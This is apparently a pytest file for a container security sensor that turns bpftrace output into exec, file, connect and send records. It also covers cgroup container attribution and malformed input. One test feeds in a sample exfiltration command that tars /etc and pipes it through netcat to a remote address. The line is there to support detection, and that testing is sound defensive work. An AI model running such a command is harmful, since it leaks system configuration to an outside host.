"""The sensor's assembly of bpftrace output into records, without bpftrace: what program.bt
prints, fed line by line, in the orders per-CPU buffers can deliver it."""

from __future__ import annotations

import json
import os
import re
import time
from pathlib import Path

import pytest

from tidewaiter.sensor.cgroups import RESCAN_INTERVAL, CgroupResolver, attribution, cgroup2_mount
from tidewaiter.sensor.records import FOLD, GRACE, Assembler
from tidewaiter.sensor.runner import program
from tidewaiter.sensor.schema import SensorRecord

CID = "9d6b35917d5189dbd6f11b463045fae23ac584d8ce053b80cfb55c00f35a0f38"


def line(text: str) -> bytes:
    return json.dumps({"type": "printf", "data": text + "\n"}).encode()


@pytest.fixture
def cgroups(tmp_path: Path) -> tuple[CgroupResolver, int, int]:
    """A cgroup2 tree with the root and one runc container; their ids are the inodes."""
    root = tmp_path / "cgroup"
    (root / CID).mkdir(parents=True)
    (root / "system.slice" / "ssh.service").mkdir(parents=True)
    resolver = CgroupResolver(root, proc=tmp_path / "proc")
    return resolver, (root / CID).stat().st_ino, root.stat().st_ino


def assemble(
    cgroups: tuple[CgroupResolver, int, int], **options: object
) -> tuple[Assembler, list[SensorRecord]]:
    out: list[SensorRecord] = []
    resolver = cgroups[0]
    proc = Path(str(options.pop("proc", "/nonexistent")))
    assembler = Assembler(
        out.append,
        resolver,
        "node-1",
        clock_offset=1_000.0,
        proc=proc,
        **options,  # type: ignore[arg-type]
    )
    return assembler, out


def test_an_exec_is_assembled_with_argv_parent_and_container(
    cgroups: tuple[CgroupResolver, int, int],
) -> None:
    assembler, out = assemble(cgroups)
    ctr, _ = cgroups[1], cgroups[2]
    for text in (
        "K 100 200",
        f"X 5000000000 200 {ctr} /bin/sh",
        "A 200 0 sh",
        "A 200 1 -c",
        "A 200 2 tar -czf /tmp/a.tgz /etc | nc 10.0.0.2 9000",
        "M 200 0",
        f"E 5000100000 200 200 0 {ctr} /bin/sh",
    ):
        assembler.feed(line(text), now=1.0)
    [record] = out
    assert record.event == "exec"
    assert record.argv == ("sh", "-c", "tar -czf /tmp/a.tgz /etc | nc 10.0.0.2 9000")
    assert record.exe == "/bin/sh"
    assert record.time == pytest.approx(1005.0001)
    assert (record.pid, record.ppid, record.uid) == (200, 100, 0)
    assert record.container_id == CID
    assert record.cgroup == f"/{CID}"
    assert not record.argv_truncated


def test_arguments_arriving_after_the_exec_still_join_it(
    cgroups: tuple[CgroupResolver, int, int],
) -> None:
    """execve can move to another CPU: its success (E) can be read before its arguments."""
    assembler, out = assemble(cgroups)
    ctr = cgroups[1]
    assembler.feed(line(f"E 2 300 300 0 {ctr} /usr/bin/tar"), now=1.0)
    assert out == []  # waiting for its arguments
    for text in (f"X 1 300 {ctr} /usr/bin/tar", "A 300 0 tar", "A 300 1 -czf", "M 300 0"):
        assembler.feed(line(text), now=1.05)
    [record] = out
    assert record.argv == ("tar", "-czf")


def test_an_exec_whose_arguments_never_come_is_emitted_after_the_grace(
    cgroups: tuple[CgroupResolver, int, int], tmp_path: Path
) -> None:
    proc = tmp_path / "proc"
    (proc / "400").mkdir(parents=True)
    (proc / "400" / "cmdline").write_bytes(b"gzip\x00-9\x00")
    assembler, out = assemble(cgroups, proc=proc)
    assembler.feed(line(f"E 2 400 400 0 {cgroups[1]} /bin/gzip"), now=1.0)
    assembler.tick(now=1.0 + GRACE / 2)
    assert out == []
    assembler.tick(now=1.0 + GRACE + 0.01)
    [record] = out
    assert record.argv == ("gzip", "-9")  # read from the kernel while the process lived


def test_argv_beyond_what_the_sensor_reads_is_marked_truncated(
    cgroups: tuple[CgroupResolver, int, int],
) -> None:
    assembler, out = assemble(cgroups, strlen=20)
    ctr = cgroups[1]
    for text in (
        f"X 1 500 {ctr} /usr/bin/python3",
        "A 500 0 python3",
        "A 500 1 -c",
        "A 500 2 " + "x" * 19,  # as long as str() reads: cut there
        "M 500 0",
        f"E 2 500 500 0 {ctr} /usr/bin/python3",
    ):
        assembler.feed(line(text), now=1.0)
    assert out[0].argv_truncated
    assembler.feed(line(f"X 3 501 {ctr} /bin/tar"), now=1.0)
    assembler.feed(line("A 501 0 tar"), now=1.0)
    assembler.feed(line("M 501 1"), now=1.0)  # more than the program reads
    assembler.feed(line(f"E 4 501 501 0 {ctr} /bin/tar"), now=1.0)
    assert out[1].argv_truncated


def test_file_records_name_the_process_and_a_forked_child_its_parent_s_image(
    cgroups: tuple[CgroupResolver, int, int],
) -> None:
    assembler, out = assemble(cgroups)
    ctr = cgroups[1]
    for text in (
        f"X 1 600 {ctr} /bin/tar",
        "A 600 0 tar",
        "A 600 1 -czf",
        "A 600 2 /tmp/a b.tgz",
        "M 600 0",
        f"E 2 600 600 0 {ctr} /bin/tar",
        f"F 3 600 {ctr} 577 /tmp/a b.tgz",
        "K 600 601",  # tar forks a child that writes before it execs anything
        f"F 4 601 {ctr} 65 /tmp/child.out",
        f"R 5 600 {ctr} /tmp/final.zip",
    ):
        assembler.feed(line(text), now=1.0)
    _, create, child, rename = out
    assert (create.event, create.path, create.flags) == ("create", "/tmp/a b.tgz", 577)
    assert create.argv == ("tar", "-czf", "/tmp/a b.tgz")
    assert (child.pid, child.exe, child.ppid) == (601, "/bin/tar", 600)
    assert (rename.event, rename.path) == ("rename", "/tmp/final.zip")


def test_connects_decode_ipv4_and_ipv6(cgroups: tuple[CgroupResolver, int, int]) -> None:
    assembler, out = assemble(cgroups)
    ctr = cgroups[1]
    assembler.feed(line(f"C 1 700 {ctr} 2 8080 -115 10.213.0.2"), now=1.0)
    # 2001:db8::1 as two little-endian 64-bit halves of struct sockaddr_in6's address
    high = int.from_bytes(bytes.fromhex("20010db800000000"), "little")
    low = int.from_bytes(bytes.fromhex("0000000000000001"), "little")
    assembler.feed(line(f"C 2 700 {ctr} 10 443 0 {high:x}:{low:x}"), now=1.0)
    v4, v6 = out
    assert (v4.daddr, v4.dport, v4.ret, v4.family) == ("10.213.0.2", 8080, -115, 2)
    assert (v6.daddr, v6.dport, v6.family) == ("2001:db8::1", 443, 10)


def test_sends_fold_per_socket_and_carry_the_destination(
    cgroups: tuple[CgroupResolver, int, int],
) -> None:
    assembler, out = assemble(cgroups)
    ctr = cgroups[1]
    assembler.feed(line("N ffff8881 2 9000 10.213.0.2"), now=1.0)
    for index in range(5):
        assembler.feed(line(f"S {index} 800 {ctr} 65536 ffff8881"), now=1.0 + index * 0.1)
    assert out == []  # still folding
    assembler.feed(line(f"S 9 800 {ctr} 10 ffff9999"), now=1.5)  # a socket it never saw open
    assembler.tick(now=1.0 + FOLD + 0.6)
    [send] = out
    assert (send.event, send.daddr, send.dport) == ("send", "10.213.0.2", 9000)
    assert (send.bytes, send.sends) == (5 * 65536, 5)
    assert assembler.counters.sends_without_destination == 1


def test_a_process_exit_flushes_its_sends(cgroups: tuple[CgroupResolver, int, int]) -> None:
    assembler, out = assemble(cgroups)
    ctr = cgroups[1]
    assembler.feed(line("N ab 2 443 10.213.0.2"), now=1.0)
    assembler.feed(line(f"S 1 900 {ctr} 100 ab"), now=1.0)
    assembler.feed(line("Q 2 900"), now=1.01)
    assert [r.bytes for r in out] == [100]


def test_containers_only_leaves_out_host_processes(
    cgroups: tuple[CgroupResolver, int, int],
) -> None:
    assembler, out = assemble(cgroups, containers_only=True)
    ctr, root = cgroups[1], cgroups[2]
    assembler.feed(line(f"F 1 1000 {root} 65 /var/log/host.log"), now=1.0)
    assembler.feed(line(f"F 2 1001 {ctr} 65 /tmp/in-container"), now=1.0)
    assert [r.path for r in out] == ["/tmp/in-container"]


def test_the_sensor_s_own_processes_are_left_out(cgroups: tuple[CgroupResolver, int, int]) -> None:
    assembler, out = assemble(cgroups, ignore_pids=frozenset({4242}))
    assembler.feed(line(f"F 1 4242 {cgroups[2]} 65 /tmp/x"), now=1.0)
    assert out == []


def test_unreadable_and_lost_output_is_counted(cgroups: tuple[CgroupResolver, int, int]) -> None:
    assembler, out = assemble(cgroups)
    assembler.feed(b"not json", now=1.0)
    assembler.feed(line("Z what is this"), now=1.0)
    assembler.feed(line("F not-a-number"), now=1.0)
    assembler.feed(json.dumps({"type": "lost_events", "data": {"events": 7}}).encode(), now=1.0)
    assembler.feed(json.dumps({"type": "attached_probes", "data": {"probes": 12}}).encode())
    assert out == []
    assert assembler.counters.unreadable == 3
    assert assembler.counters.lost == 7
    assert assembler.attached == 12


def test_cgroup_paths_name_containers_of_each_runtime() -> None:
    podman = attribution(f"/libpod_parent/libpod-{CID}")
    assert (podman.container_id, podman.runtime) == (CID, "podman")
    docker = attribution(f"/system.slice/docker-{CID}.scope")
    assert (docker.container_id, docker.runtime) == (CID, "docker")
    assert attribution(f"/{CID}").container_id == CID
    assert attribution("/system.slice/ssh.service").container_id is None


def test_an_unknown_cgroup_is_found_by_walking_the_tree_again(tmp_path: Path) -> None:
    root = tmp_path / "cgroup"
    root.mkdir()
    resolver = CgroupResolver(root, proc=tmp_path / "proc")
    (root / CID).mkdir()  # a container started after the sensor
    time.sleep(RESCAN_INTERVAL + 0.01)  # walks are rate-limited
    found = resolver.resolve((root / CID).stat().st_ino, pid=1)
    assert found.container_id == CID


def test_a_v1_only_container_is_found_through_proc(tmp_path: Path) -> None:
    root = tmp_path / "cgroup"
    root.mkdir()
    proc = tmp_path / "proc" / "77"
    proc.mkdir(parents=True)
    (proc / "cgroup").write_text(f"4:memory:/docker/{CID}\n0::/\n")
    resolver = CgroupResolver(root, proc=tmp_path / "proc")
    assert resolver.resolve(root.stat().st_ino, pid=77).container_id == CID
    assert resolver.resolve(root.stat().st_ino, pid=78).container_id is None


def test_the_cgroup2_mount_is_read_from_mountinfo(tmp_path: Path) -> None:
    mountinfo = tmp_path / "mountinfo"
    mountinfo.write_text(
        "30 25 0:26 / /sys/fs/cgroup/cpu rw,relatime - cgroup cgroup rw,cpu\n"
        "35 25 0:31 / /sys/fs/cgroup/unified rw,relatime - cgroup2 cgroup2 rw\n"
    )
    assert cgroup2_mount(mountinfo) == Path("/sys/fs/cgroup/unified")


def test_the_program_leaves_out_blocks_for_missing_tracepoints() -> None:
    everything, dropped = program(lambda name: True)
    assert dropped == []
    probes = [ln for ln in everything.splitlines() if re.match(r"^[a-z]+:", ln)]
    assert all(p.startswith("tracepoint:") for p in probes)  # no kprobes: they do not work here
    assert "tracepoint:sock:sock_send_length" in probes
    without, dropped = program(
        lambda name: not name.startswith(("sock/", "syscalls/sys_enter_ren"))
    )
    assert "sock/sock_send_length" in dropped
    assert "tracepoint:sock:sock_send_length" not in without
    assert "tracepoint:syscalls:sys_enter_rename" not in without
    assert "tracepoint:syscalls:sys_enter_execve" in without
    assert "tracepoint:syscalls:sys_exit_openat" in without


def test_this_process_is_attributed_to_no_container() -> None:
    resolver = CgroupResolver()
    if resolver.root is None:
        pytest.skip("this host has no cgroup2 mount")
    path = Path("/proc/self/cgroup").read_text().splitlines()[-1].split(":", 2)[2]
    inode = (resolver.root / path.lstrip("/")).stat().st_ino
    assert resolver.resolve(inode, os.getpid()).container_id is None


def test_an_invalid_byte_in_an_argument_keeps_the_exec(
    cgroups: tuple[CgroupResolver, int, int],
) -> None:
    # bpftrace prints argv bytes as they are: one byte 0xFF chosen by the attacker must not make
    # the whole line unreadable (msgspec 0.23 reports it as a DecodeError).
    assembler, out = assemble(cgroups)
    ctr = cgroups[1]
    for text in (
        "K 100 200",
        f"X 5000000000 200 {ctr} /bin/tar",
        "A 200 0 tar",
        "A 200 1 -czf",
        "A 200 2 /tmp/\udcffa.tgz",
        "M 200 0",
        f"E 5000100000 200 200 0 {ctr} /bin/tar",
    ):
        raw = json.dumps({"type": "printf", "data": text + "\n"}, ensure_ascii=False)
        assembler.feed(raw.encode("utf-8", "surrogateescape"), now=1.0)
    assert assembler.counters.unreadable == 0
    [record] = out
    assert record.argv == ("tar", "-czf", "/tmp/\ufffda.tgz")
